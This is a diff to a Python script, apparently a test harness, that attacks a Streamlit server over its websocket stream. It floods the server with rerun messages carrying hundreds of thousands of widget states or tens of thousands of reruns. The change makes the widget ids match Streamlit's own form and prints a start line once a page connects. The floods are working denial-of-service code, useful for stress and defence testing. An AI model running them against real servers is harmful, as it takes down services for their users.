@@ -27,6 +27,7 @@ class Attacker:
     def __init__(self, url: str, seconds: float):
         self.url, self.cookie = url, secrets.token_urlsafe(32)
         self.end = time.monotonic() + seconds
+        self.has_begun = False
 
     async def connect(self) -> ClientConnection:
         """A new page, what the server sends to it is read and forgotten."""
@@ -35,6 +36,9 @@ class Attacker:
             self.url.replace("http", "ws", 1) + "/_stcore/stream", additional_headers=headers,
             subprotocols=["streamlit"], compression=None, max_size=None, ping_interval=None, close_timeout=1,
         )  # fmt: skip
+        if not self.has_begun:
+            print("begins", flush=True)
+            self.has_begun = True
         socket.forgetting = asyncio.create_task(forget(socket))
         return socket
 
@@ -68,12 +72,12 @@ async def forget(socket: ClientConnection) -> None:
 # Messages ---------------------------------------------------------------------------------------------------------------
 
 
-def rerun(states: int = 0, fragment: str = "", ids: str = "$$ID-") -> bytes:
-    """A request for a run, with so many widget states. ids: how their ids begin."""
+def rerun(states: int = 0, fragment: str = "") -> bytes:
+    """A request for a run, with so many widget states, whose ids have Streamlit's form."""
     message = BackMsg()
     message.rerun_script.fragment_id = fragment
     for number in range(states):
-        message.rerun_script.widget_states.widgets.add(id=f"{ids}{number}", bool_value=True)
+        message.rerun_script.widget_states.widgets.add(id=f"$$ID{number}", bool_value=True)
     return message.SerializeToString()
 
 
@@ -141,12 +145,10 @@ class Attack:
 
 ATTACKS = {
     "3 messages of 400,000 states, 300 reruns, leaves": Attack(
-        lambda: [rerun(400_000, ids="w")] * 3 + [rerun()] * 300, repeats=False
+        lambda: [rerun(400_000)] * 3 + [rerun()] * 300, repeats=False
     ),
-    "1 message of 400,000 states, 50 reruns": Attack(lambda: [rerun(400_000, ids="w")] + [rerun()] * 50, repeats=False),
-    "3 messages of 60,000 states, 300 reruns": Attack(
-        lambda: [rerun(60_000, ids="w")] * 3 + [rerun()] * 300, repeats=False
-    ),
+    "1 message of 400,000 states, 50 reruns": Attack(lambda: [rerun(400_000)] + [rerun()] * 50, repeats=False),
+    "3 messages of 60,000 states, 300 reruns": Attack(lambda: [rerun(60_000)] * 3 + [rerun()] * 300, repeats=False),
     "30,000 reruns": Attack(lambda: [rerun()] * 30_000, repeats=False),
     "300 reruns of 500 states, leaves": Attack(lambda: [rerun(MAX_WIDGETS)] * 300, repeats=False),
     "a rerun of 500 states, 30 per second": Attack(lambda: [rerun(MAX_WIDGETS)]),
@@ -166,9 +168,9 @@ ATTACKS = {
 
 
 def main(url: str, name: str, seconds: str) -> None:
-    """Attack a server, after a line on standard output; the attack ends by itself, or some seconds later by force."""
+    """Attack a server, after a line on standard output as soon as a page is connected. The attack ends by itself, or some
+    seconds later by force."""
     messages = ATTACKS[name].make()
-    print("begins", flush=True)
 
     async def attack():
         with suppress(TimeoutError, OSError, WebSocketException):
